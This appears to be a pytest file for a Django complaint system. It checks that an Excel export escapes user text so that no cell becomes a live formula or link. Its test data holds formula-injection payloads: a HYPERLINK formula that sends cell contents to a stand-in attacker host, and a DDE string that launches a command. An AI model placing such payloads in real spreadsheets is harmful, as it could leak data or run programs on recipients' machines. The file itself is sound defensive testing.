"""The Excel export writes user text as plain text: never a formula, never a link (formula injection)."""

import io

import openpyxl
import pytest
from django.urls import reverse

from docket.reports.exports import complaints_xlsx

DANGEROUS = [
    '=HYPERLINK("http://evil.example/x?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
]


def _sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def test_formula_like_subjects_are_plain_text(client, org, complaint_factory):
    made = [complaint_factory(subject=s) for s in DANGEROUS]
    url = complaint_factory(subject="http://evil.example/登录")
    client.force_login(org.a.users["reception"])
    r = client.get(reverse("reports:complaints_xlsx"))
    content = r.getvalue()  # streamed: read once
    sheet = _sheet(content)
    by_receipt = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for c in made:
        cell = by_receipt[c.receipt_no][5]
        assert cell.data_type == "s", (c.subject, cell.data_type)  # "f" would be a live formula
        assert cell.value == "'" + c.subject
        assert cell.hyperlink is None
    cell = by_receipt[url.receipt_no][5]
    assert cell.data_type == "s" and cell.value == "http://evil.example/登录"
    assert cell.hyperlink is None
    # Nothing anywhere in the file is a formula or a link.
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    # No formula or hyperlink element (the texts themselves are inline strings in constant-memory mode, so
    # a subject "=HYPERLINK(…)" appears as text inside <t>).
    assert b"<f>" not in _xml(content) and b"<hyperlink" not in _xml(content).lower()


def _xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_numbers_and_dates_keep_their_types(org, complaint_factory):
    from docket.complaints.models import Complaint

    c = complaint_factory(subject="普通主题")
    sheet = _sheet(complaints_xlsx(Complaint.objects.filter(pk=c.pk)))
    row = next(sheet.iter_rows(min_row=2))
    assert row[5].value == "普通主题"
    assert row[8].data_type == "n" and row[8].value == 1  # 投诉人数
    assert row[10].is_date


@pytest.mark.parametrize(
    "text,expected", [("=1", "'=1"), ("-", "'-"), ("a=1", "a=1"), ("电梯", "电梯"), ("\r=1", "'\r=1")]
)
def test_safe_text(text, expected):
    from docket.reports.exports import safe_text

    assert safe_text(text) == expected
